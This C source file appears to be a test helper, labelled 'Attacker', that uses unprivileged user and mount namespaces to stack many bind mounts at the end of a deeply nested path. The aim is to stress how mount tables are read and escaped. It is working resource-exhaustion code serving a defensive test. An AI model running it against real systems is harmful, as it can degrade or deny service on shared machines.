/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attacker: in mount namespaces of its own, mounts on top of each other at the end of a long path.
 * From each, the kernel climbs through all those below it. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define UNAVAILABLE 77
#define NAME_LENGTH 250
#define DEPTH       14

static void check(int result, const char *what)
{
        if (result < 0) {
                fprintf(stderr, "%s: %s\n", what, strerror(errno));
                exit(errno == EPERM || errno == ENOSPC ? UNAVAILABLE : EXIT_FAILURE);
        }
}

static void write_file(const char *path, const char *text)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC);

        check(fd, path);
        check((int)write(fd, text, strlen(text)), path);
        close(fd);
}

static void become_root(void)
{
        char map[64];
        unsigned uid = getuid(), gid = getgid();

        check(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
        write_file("/proc/self/setgroups", "deny");
        snprintf(map, sizeof(map), "0 %u 1", uid);
        write_file("/proc/self/uid_map", map);
        snprintf(map, sizeof(map), "0 %u 1", gid);
        write_file("/proc/self/gid_map", map);
}

int main(int argc, char **argv)
{
        int mounts = argc > 2 ? atoi(argv[1]) : 0, namespaces = argc > 2 ? atoi(argv[2]) : 0;
        char name[NAME_LENGTH + 1] = "";

        become_root();
        check(mount("none", "/tmp", "tmpfs", 0, ""), "mounting a tmpfs");
        check(chdir("/tmp"), "/tmp");
        /* Escaped, each byte of it takes four. */
        memset(name, 1, NAME_LENGTH);
        for (int i = 0; i < DEPTH; i++) {
                check(mkdir(name, 0755), "mkdir");
                check(chdir(name), "chdir");
        }
        check(mkdir("x", 0755), "mkdir");
        for (int i = 0; i < mounts; i++)
                check(mount("x", "x", NULL, MS_BIND, NULL), "mount");
        for (int i = 1; i < namespaces; i++) {
                pid_t child = fork();
                check(child, "fork");
                if (child > 0)
                        continue;
                check(prctl(PR_SET_PDEATHSIG, SIGKILL), "prctl");
                check(unshare(CLONE_NEWNS), "unshare");
                for (;;)
                        pause();
        }
        /* The last ones copy them. */
        sleep(1);
        printf("{\"mounts\":%d}\n", mounts);
        fflush(stdout);
        (void)read(STDIN_FILENO, name, 1);
        printf("{}\n");
        return 0;
}
